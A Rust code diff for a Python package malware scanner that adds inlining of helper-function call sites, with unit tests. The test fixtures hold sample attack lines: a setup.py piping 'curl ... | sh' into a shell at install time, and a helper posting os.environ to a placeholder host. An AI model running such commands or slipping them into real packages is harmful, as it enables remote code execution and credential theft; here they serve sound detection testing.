@@ -4,6 +4,8 @@
 
 use ruff_python_ast::visitor::{self, Visitor};
 use ruff_python_ast::{self as ast, Expr, Stmt};
+use std::collections::HashMap;
+
 use ruff_text_size::{Ranged, TextRange};
 
 use crate::context::FileRole;
@@ -123,7 +125,27 @@ pub struct Checker<'s> {
     scope_lines: Vec<u32>,
     /// The module-level class being walked, for `Class.method` eager keys.
     class_names: Vec<String>,
+    /// Module-level functions by name, walked again at call sites that pass constants or
+    /// sensitive data (see [`Checker::inline_call`]).
+    functions: HashMap<&'s str, &'s ast::StmtFunctionDef>,
+    /// Functions whose bodies are being walked for a call site, outermost first.
+    inlining: Vec<&'s str>,
+    /// Parameters of the innermost function walked for a call site.
+    inline_params: Vec<String>,
+    /// Context of the outermost call site being inlined: the body runs when its caller does.
+    inline_context: Option<ExecContext>,
+    /// Line of the outermost call site being inlined, for evidence messages.
+    inline_site: Option<u32>,
+    /// Source bytes of function bodies that may still be walked again for call sites.
+    inline_budget: usize,
 }
+
+/// Deepest chain of call sites whose callees are walked again (`main()` → `run(cmd)`).
+const MAX_INLINE_DEPTH: usize = 3;
+/// Source bytes of function bodies walked again per file: bounds the extra work on large files.
+const INLINE_BUDGET_BYTES: usize = 1 << 20;
+/// Largest function body walked again for a call site.
+const MAX_INLINED_FUNCTION_BYTES: usize = 32 << 10;
 
 impl<'s> Checker<'s> {
     /// Prepares a walk over `text`.
@@ -158,11 +180,17 @@ impl<'s> Checker<'s> {
             escaped_letters: (0, 0),
             scope_lines: Vec::new(),
             class_names: Vec::new(),
+            functions: HashMap::new(),
+            inlining: Vec::new(),
+            inline_params: Vec::new(),
+            inline_context: None,
+            inline_site: None,
+            inline_budget: INLINE_BUDGET_BYTES,
         }
     }
 
     /// Walks a module body.
-    pub fn run(&mut self, body: &[Stmt]) {
+    pub fn run(&mut self, body: &'s [Stmt]) {
         if let Some(Stmt::Expr(first)) = body.first()
             && let Expr::StringLiteral(doc) = &*first.value
         {
@@ -177,6 +205,13 @@ impl<'s> Checker<'s> {
         self.eager_functions = crate::eager::functions_run_at_load(body, &self.seeds);
         self.facts.defined_functions = crate::eager::defined_functions(body);
         self.facts.external_calls = crate::eager::external_calls(body);
+        for stmt in body {
+            if let Stmt::FunctionDef(function) = stmt
+                && self.functions.len() < 4_096
+            {
+                self.functions.insert(function.name.as_str(), function);
+            }
+        }
         self.visit_body(body);
         rules::obfuscation_layout::check(self);
         if self.depth_exceeded {
@@ -199,6 +234,9 @@ impl<'s> Checker<'s> {
 
     /// The execution context of the node being visited.
     pub fn context(&self) -> ExecContext {
+        if let Some(context) = self.inline_context {
+            return context;
+        }
         if self.main_guard_depth > 0
             && !matches!(self.role, FileRole::Setup | FileRole::Pth)
             && self.layer_context.is_none()
@@ -263,6 +301,16 @@ impl<'s> Checker<'s> {
         tags: Vec<&'static str>,
     ) {
         let (line, column) = self.position(range);
+        let mut message = message;
+        if let Some(site) = self.inline_site {
+            // The plain walk of the body may already hold the same evidence, without constants.
+            if self.findings.iter().any(|f| {
+                f.rule == rule.id && f.line == line && f.column == column && f.message == message
+            }) {
+                return;
+            }
+            message = format!("{message}, through the call at line {site}");
+        }
         let snippet = self.snippet(range);
         self.findings.push(Finding {
             rule: rule.id,
@@ -558,6 +606,128 @@ impl<'s> Checker<'s> {
     pub fn qualname(&self, expr: &Expr) -> Option<String> {
         self.scopes.qualname(expr)
     }
+
+    /// Walks the body of a module-level function again for one call to it, with the parameters
+    /// bound to the call's constant arguments and carrying the taint of its sensitive ones, in
+    /// the caller's context. `def run(cmd): subprocess.Popen(cmd, shell=True)` followed by
+    /// `run("powershell iwr ...")` at the top level is then a process start of that command at
+    /// import time, and `send(os.environ)` a flow of the environment to `send`'s network call.
+    fn inline_call(&mut self, call: &'s ast::ExprCall) {
+        let Expr::Name(callee) = &*call.func else {
+            return;
+        };
+        let name = callee.id.as_str();
+        let Some(&function) = self.functions.get(name) else {
+            return;
+        };
+        if self.inlining.len() >= MAX_INLINE_DEPTH
+            || self.inlining.contains(&name)
+            || self.scopes.alias(name).is_some()
+        {
+            return;
+        }
+        let size = function.range().len().to_usize();
+        if size > MAX_INLINED_FUNCTION_BYTES || size > self.inline_budget {
+            return;
+        }
+        let bindings = self.call_bindings(function, call);
+        if !bindings.iter().any(|b| b.interesting) {
+            return;
+        }
+        self.inline_budget -= size;
+        let outermost = self.inlining.is_empty();
+        if outermost {
+            self.inline_context = Some(self.context());
+            self.inline_site = Some(self.position(call.range()).0);
+        }
+        self.inlining.push(name);
+        self.function_depth += 1;
+        let (def_line, _) = self.position(function.range());
+        self.scope_lines.push(def_line);
+        self.scopes.push();
+        let outer_params = std::mem::replace(
+            &mut self.inline_params,
+            bindings.iter().map(|b| b.name.clone()).collect(),
+        );
+        for binding in bindings {
+            match binding.value {
+                Some(value) => self.scopes.bind_constant(&binding.name, value),
+                None => self.scopes.unbind(&binding.name),
+            }
+            if let Some(source) = binding.taint {
+                self.scopes.taint(&binding.name, source);
+            }
+        }
+        self.visit_body(&function.body);
+        self.inline_params = outer_params;
+        self.scopes.pop();
+        self.scope_lines.pop();
+        self.function_depth -= 1;
+        self.inlining.pop();
+        if outermost {
+            self.inline_context = None;
+            self.inline_site = None;
+        }
+    }
+
+    /// True when `expr` is a parameter of a function being walked for a call site: its value is
+    /// the caller's plain argument, so spelling it through the parameter hides nothing.
+    pub fn passed_in(&self, expr: &Expr) -> bool {
+        matches!(expr, Expr::Name(name) if self.inline_params.iter().any(|p| p == name.id.as_str()))
+    }
+
+    /// What each parameter of `function` receives from `call`: positional and keyword
+    /// arguments, then the parameter's default.
+    fn call_bindings(
+        &mut self,
+        function: &ast::StmtFunctionDef,
+        call: &ast::ExprCall,
+    ) -> Vec<ParamBinding> {
+        let parameters = &function.parameters;
+        let positional = parameters.posonlyargs.iter().chain(parameters.args.iter());
+        let mut bindings = Vec::new();
+        for (index, parameter) in positional.chain(parameters.kwonlyargs.iter()).enumerate() {
+            let name = parameter.parameter.name.as_str();
+            let is_positional = index < parameters.posonlyargs.len() + parameters.args.len();
+            let argument = call
+                .arguments
+                .args
+                .get(index)
+                .filter(|a| is_positional && !a.is_starred_expr())
+                .or_else(|| rules::keyword(call, name));
+            let (value, taint) = match argument {
+                Some(argument) => (self.fold(argument), self.source_in(argument)),
+                None => (
+                    parameter.default.as_deref().and_then(|d| self.fold(d)),
+                    None,
+                ),
+            };
+            // A constant passed by the caller says what the body does; a default does not add
+            // anything the plain walk of the body did not see.
+            let interesting = argument.is_some()
+                && (taint.is_some()
+                    || match &value {
+                        Some(Value::Seq(items)) => !items.is_empty(),
+                        Some(other) => other.as_text().is_some_and(|t| t.trim().len() >= 3),
+                        None => false,
+                    });
+            bindings.push(ParamBinding {
+                name: name.to_owned(),
+                value,
+                taint,
+                interesting,
+            });
+        }
+        bindings
+    }
+}
+
+/// What one parameter is bound to when a function body is walked for a call site.
+struct ParamBinding {
+    name: String,
+    value: Option<Value>,
+    taint: Option<usize>,
+    interesting: bool,
 }
 
 /// `chr(ord(c) ^ k)`, `chr(x - 3)`, `bytes(b ^ k for b in data)`: hand-rolled decryption. True
@@ -677,13 +847,13 @@ fn is_setuptools_command(qualname: &str) -> bool {
         || qualname == last)
 }
 
-impl<'a> Visitor<'a> for Checker<'_> {
-    fn visit_body(&mut self, body: &'a [Stmt]) {
+impl<'s> Visitor<'s> for Checker<'s> {
+    fn visit_body(&mut self, body: &'s [Stmt]) {
         rules::dynamic_exec::check_py2_exec_statements(self, body);
         visitor::walk_body(self, body);
     }
 
-    fn visit_stmt(&mut self, stmt: &'a Stmt) {
+    fn visit_stmt(&mut self, stmt: &'s Stmt) {
         if self.depth >= MAX_WALK_DEPTH {
             self.depth_exceeded = true;
             return;
@@ -823,7 +993,7 @@ impl<'a> Visitor<'a> for Checker<'_> {
         self.depth -= 1;
     }
 
-    fn visit_expr(&mut self, expr: &'a Expr) {
+    fn visit_expr(&mut self, expr: &'s Expr) {
         if self.depth >= MAX_WALK_DEPTH {
             self.depth_exceeded = true;
             return;
@@ -835,6 +1005,7 @@ impl<'a> Visitor<'a> for Checker<'_> {
                     rules::on_call(self, call, &qualname);
                 }
                 visitor::walk_expr(self, expr);
+                self.inline_call(call);
             }
             Expr::StringLiteral(string) => {
                 let start = string.range().start().to_usize();
@@ -873,5 +1044,57 @@ impl<'a> Visitor<'a> for Checker<'_> {
             _ => visitor::walk_expr(self, expr),
         }
         self.depth -= 1;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use crate::finding::ExecContext;
+    use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn constant_passed_to_a_spawning_helper_is_the_command() {
+        let code = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\nrun('curl https://example.invalid/x.sh | sh')\n";
+        let found = findings("p/setup.py", code);
+        let spawn = found
+            .iter()
+            .filter(|f| f.rule == "WH120")
+            .max_by(|a, b| a.severity.total_cmp(&b.severity))
+            .unwrap();
+        assert!(spawn.severity >= 0.7, "{spawn:?}");
+        assert_eq!(spawn.context, ExecContext::Install);
+        assert!(spawn.message.contains("through the call at line 4"));
+        assert_eq!(spawn.line, 3);
+    }
+
+    #[test]
+    fn helper_called_with_a_variable_adds_nothing() {
+        let with_call = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\ndef main(x):\n    run(x)\n";
+        let without = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n";
+        assert_eq!(
+            findings("p/pkg/m.py", with_call).len(),
+            findings("p/pkg/m.py", without).len()
+        );
+    }
+
+    #[test]
+    fn secret_passed_to_a_sending_helper_flows() {
+        let code = "import os, requests\ndef send(data):\n    requests.post('https://example.invalid', data=data)\nsend(dict(os.environ))\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.5);
+        let plain = "import os, requests\ndef send(data):\n    requests.post('https://example.invalid', data=data)\nsend({'a': 1})\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", plain, "WH200"), 0.0);
+    }
+
+    #[test]
+    fn recursive_helpers_terminate() {
+        let code = "import os\ndef f(x):\n    f(x + 'a')\n    os.system(x)\nf('echo hi')\n";
+        assert!(!findings("p/pkg/m.py", code).is_empty());
+    }
+
+    #[test]
+    fn module_name_passed_to_an_import_helper_is_not_obfuscation() {
+        let code = "def vendored(name):\n    __import__(name, globals(), locals(), level=0)\nvendored('requests')\nvendored('os')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH180") < 0.1);
     }
 }
